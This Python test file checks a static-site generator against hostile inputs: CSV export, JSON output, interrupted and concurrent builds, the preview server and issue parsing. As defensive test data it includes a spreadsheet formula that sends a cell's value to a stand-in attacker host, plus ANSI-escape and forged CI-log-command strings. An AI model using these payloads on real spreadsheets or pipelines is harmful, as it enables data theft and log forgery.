"""Hostile records and hostile timing: open data, the site swap, the lock, the preview, from-issue.

Regression tests for issue #13 (see tests/test_hostile_content.py for the
validator and the cost of rendering).
"""

from __future__ import annotations

import csv
import fcntl
import io
import json
import math
import os
import signal
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

import pytest
from site_support import copy_built, copy_project, replika, serving

from generator.outputs.export import practices_json
from generator.outputs.site import LOCK_NAME, MARKER_NAME, WORK_DIR
from generator.project import Project
from generator.scaffold.issue_parser import _split, parse_issue_body
from generator.stages.model import build_catalogue
from generator.stages.validate import check_project

BASE = "l2t2-kendari"


def edit(project: Path, old: str, new: str, record: str = BASE) -> None:
    path = project / "practices" / f"{record}.yaml"
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


# ----------------------------------------------------------------------------- open data


def test_csv_cells_that_look_like_formulas_are_neutralised(tmp_path: Path) -> None:
    """A title `=HYPERLINK(...)` was written raw into practices.csv."""
    project = copy_project(tmp_path / "p")
    formula = '=HYPERLINK("http://evil.example/?d="&C2,"Klik")'
    edit(project, "\njudul: Layanan Lumpur", "\njudul: " + json.dumps(formula)[:-1] + ' Lumpur"\n#')
    edit(project, "\ntag: [", "\ntag: ['@SUM(1+1)', '+62 812', '-2+3', ")
    result = replika(project, "export", "--format", "csv", "--keluaran", "keluar")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO((project / "keluar/practices.csv").read_text("utf-8"))))
    row = next(r for r in rows if r["id"] == BASE)
    assert row["judul"] == "'" + formula + " Lumpur"
    assert row["tag"].startswith("'@SUM(1+1); +62 812; -2+3")
    for r in rows:
        for cell in r.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_json_is_strict(tmp_path: Path) -> None:
    """`nilai: 1.0e999` wrote `Infinity` into practices.json; now it can never be written."""
    project = copy_project(tmp_path / "p")
    checked = check_project(Project(project))
    assert not checked.problems
    catalogue = build_catalogue(checked, Project(project))
    text = practices_json(catalogue)
    json.loads(text, parse_constant=lambda c: pytest.fail(f"{c} in practices.json"))
    practice = catalogue.practices[0]
    result = practice.results[0] if practice.results else None
    if result is not None:
        broken = practice.model_copy(
            update={"results": [result.model_copy(update={"value": math.inf})]}
        )
        catalogue.practices[0] = broken
        with pytest.raises(ValueError):
            practices_json(catalogue)


# ----------------------------------------------------------------------------- swap and lock


def _leftovers(project: Path) -> list[str]:
    work = project / WORK_DIR
    return sorted(p.name for p in work.glob("site-*")) if work.exists() else []


@pytest.fixture(scope="module")
def built(site_build: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = copy_built(site_build, tmp_path_factory.mktemp("tukar") / "p")
    result = replika(project, "build", "--tanpa-pdf")
    assert result.returncode == 0, result.stderr
    return project


def test_killed_build_leaves_nothing_behind_and_site_comes_back(built: Path) -> None:
    """Killed builds left `.cache/site-baru-*`; a kill between the two renames left no site/."""
    edit(built, "\njudul: Layanan", "\njudul: Dibunuh Layanan")
    proc = subprocess.Popen(
        [sys.executable, "-m", "generator", "build", "--tanpa-pdf"],
        cwd=built,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    deadline = time.monotonic() + 120
    while not any(n.startswith("site-baru-") for n in _leftovers(built)):
        assert time.monotonic() < deadline and proc.poll() is None, "no staging folder seen"
        time.sleep(0.05)
    time.sleep(0.5)
    os.killpg(proc.pid, signal.SIGKILL)
    proc.wait()
    assert any(n.startswith("site-baru-") for n in _leftovers(built))
    # and the worst moment: between the two renames of the swap
    site = built / "site"
    os.rename(site, built / WORK_DIR / "site-lama-terhenti")
    assert not site.exists()
    # the next build fails (invalid record) but restores site/ and removes leftovers
    edit(built, "sektor: air-limbah-domestik", "sektor: bukan-sektor")
    result = replika(built, "build", "--tanpa-pdf")
    assert result.returncode == 1, result.stderr
    assert (site / MARKER_NAME).is_file(), result.stderr
    assert "dipulihkan" in result.stderr
    assert _leftovers(built) == []
    edit(built, "sektor: bukan-sektor", "sektor: air-limbah-domestik")
    edit(built, "\njudul: Dibunuh Layanan", "\njudul: Layanan")


def test_concurrent_builds_wait_for_each_other(built: Path, tmp_path: Path) -> None:
    """One of 16 concurrent pairs failed with a false 'berkas yang tidak ditulis' error."""
    lock = built / WORK_DIR / LOCK_NAME
    edit(built, "\njudul: Layanan", "\njudul: Bersamaan Layanan")
    logs = [tmp_path / f"build-{n}.log" for n in range(2)]
    with open(lock, "a+b") as handle:
        fcntl.flock(handle, fcntl.LOCK_EX)
        procs = []
        for log in logs:
            with log.open("w") as stderr:
                procs.append(
                    subprocess.Popen(
                        [sys.executable, "-m", "generator", "build", "--tanpa-pdf"],
                        cwd=built,
                        stdout=subprocess.DEVNULL,
                        stderr=stderr,
                    )
                )
        # both reached the lock and said they wait (instead of sleeping a fixed time)
        waiting = "build lain sedang berjalan"
        deadline = time.monotonic() + 120
        while not all(waiting in log.read_text(encoding="utf-8") for log in logs):
            assert time.monotonic() < deadline, [log.read_text() for log in logs]
            assert all(p.poll() is None for p in procs), "a build ran while the lock was held"
            time.sleep(0.05)
        time.sleep(0.2)
        assert all(p.poll() is None for p in procs), "a build ran while the lock was held"
        fcntl.flock(handle, fcntl.LOCK_UN)
    for proc in procs:
        proc.wait(timeout=300)
    for proc, log in zip(procs, logs, strict=True):
        err = log.read_text(encoding="utf-8")
        assert proc.returncode == 0, err
        assert "tidak ditulis" not in err
        assert "build lain sedang berjalan" in err
    assert "Bersamaan Layanan" in (built / "site/katalog/praktik" / BASE / "index.html").read_text(
        "utf-8"
    )
    assert _leftovers(built) == []
    edit(built, "\njudul: Bersamaan Layanan", "\njudul: Layanan")


# ----------------------------------------------------------------------------- preview


def _get(url: str) -> tuple[int, str]:
    try:
        with urllib.request.urlopen(url, timeout=5) as response:
            return response.status, response.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as err:
        return err.code, err.read().decode("utf-8", "replace")
    except OSError:
        return 0, ""


def _wait(predicate: object, seconds: float) -> bool:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if predicate():  # type: ignore[operator]
            return True
        time.sleep(0.2)
    return False


def test_preview_shows_problems_in_the_browser_and_survives(
    tmp_path: Path, chromium: object
) -> None:
    """Errors were only in the terminal; `/%00/` answered 500 with a traceback."""
    project = copy_project(tmp_path / "p")
    log_path = tmp_path / "serve.log"
    with serving(project, log_path, "--tanpa-pdf") as (proc, base):
        page_url = f"{base}katalog/praktik/{BASE}/"
        status_url = f"{base}_replika-status.json"
        assert _wait(lambda: "Kota Kendari" in _get(page_url)[1], 120), log_path.read_text()
        assert _wait(lambda: _get(status_url)[0] == 200, 30), log_path.read_text()
        code, _body = _get(base + "%00/")
        assert code in (400, 404)
        # a number out of range, then an invalid choice: shown on the previewed page
        edit(project, "    tahun: 2018", "    tahun: " + "9" * 5000)
        assert _wait(lambda: "bad-value" in _get(status_url)[1], 30), log_path.read_text()
        edit(project, "    tahun: " + "9" * 5000, "    tahun: 2018")
        edit(project, "sektor: air-limbah-domestik", "sektor: bukan-sektor")
        assert _wait(lambda: "bukan-sektor" in _get(status_url)[1], 30), log_path.read_text()
        page = chromium.new_page()  # type: ignore[attr-defined]
        page.goto(page_url)
        banner = page.locator("#replika-masalah")
        banner.wait_for(state="visible", timeout=15_000)
        text = banner.inner_text()
        assert f"practices/{BASE}.yaml:" in text and "bukan-sektor" in text
        edit(project, "sektor: bukan-sektor", "sektor: air-limbah-domestik")
        banner.wait_for(state="hidden", timeout=30_000)
        page.close()
        assert proc.poll() is None
        assert "Traceback" not in log_path.read_text()


# ----------------------------------------------------------------------------- from-issue


def test_forged_heading_in_an_answer_does_not_replace_the_title() -> None:
    body = (
        "### Judul praktik\n\nJudul asli\n\n### Ringkasan\n\nTeks.\n"
        "### Judul praktik\n\nJudul palsu\n\n### Masalah yang dipecahkan\n\nMasalah.\n"
    )
    answers = parse_issue_body(body)
    assert answers["Judul praktik"] == "Judul asli"
    assert "Judul palsu" in answers["Ringkasan"]
    assert answers["Masalah yang dipecahkan"] == "Masalah."


def test_pipe_splitting_is_linear() -> None:
    """40,000 spaces took 10.5 s."""
    started = time.perf_counter()
    parts = _split("a" + " " * 40_000 + "b |" + " " * 40_000 + "— c")
    parse_issue_body("### a" + " " * 40_000 + "b\n\nx")
    assert time.perf_counter() - started < 0.5
    assert parts == ["a" + " " * 40_000 + "b", "", "c"]


def test_tag_with_a_bracket_gives_valid_yaml(tmp_path: Path) -> None:
    from tests.test_from_issue import GOOD_ISSUE, render_issue
    from tests.test_scaffold import created, records
    from tests.test_scaffold import replika as replika_stdin

    project = copy_project(tmp_path / "p")
    before = records(project)
    answers = {**GOOD_ISSUE, "tag": "bank]sampah, aplikasi [x], '#kutip"}
    result = replika_stdin(project, "from-issue", "-", stdin=render_issue(answers))
    assert result.returncode == 0, result.stderr
    path = created(project, before)
    assert replika(project, "validate", f"practices/{path.name}").returncode == 0
    import yaml

    assert yaml.safe_load(path.read_text("utf-8"))["tag"] == [
        "bank]sampah",
        "aplikasi [x]",
        "'#kutip",
    ]


# ----------------------------------------------------------------------------- workflows


def test_every_write_permission_is_explained() -> None:
    """zizmor (pedantic): `undocumented-permissions` on the deploy job."""
    root = Path(__file__).resolve().parents[1]
    for path in sorted((root / ".github" / "workflows").glob("*.y*ml")):
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if line.strip().endswith(": write") or ": write " in line:
                assert "#" in line.split(": write", 1)[1], f"{path.name}:{number}: {line}"


def test_from_issue_messages_cannot_forge_lines(tmp_path: Path) -> None:
    """An answer quoted in a from-issue message is one inert line (no ESC, no new line)."""
    from tests.test_from_issue import GOOD_ISSUE, render_issue
    from tests.test_scaffold import replika as replika_stdin

    project = copy_project(tmp_path / "p")
    answers = {**GOOD_ISSUE, "provinsi": "Jawa\x1b[31m\n::warning::palsu"}
    result = replika_stdin(project, "from-issue", "-", stdin=render_issue(answers))
    assert result.returncode == 1
    assert "\x1b" not in result.stderr
    assert not any(line.startswith("::") for line in result.stderr.splitlines())
    assert "«Provinsi»" in result.stderr
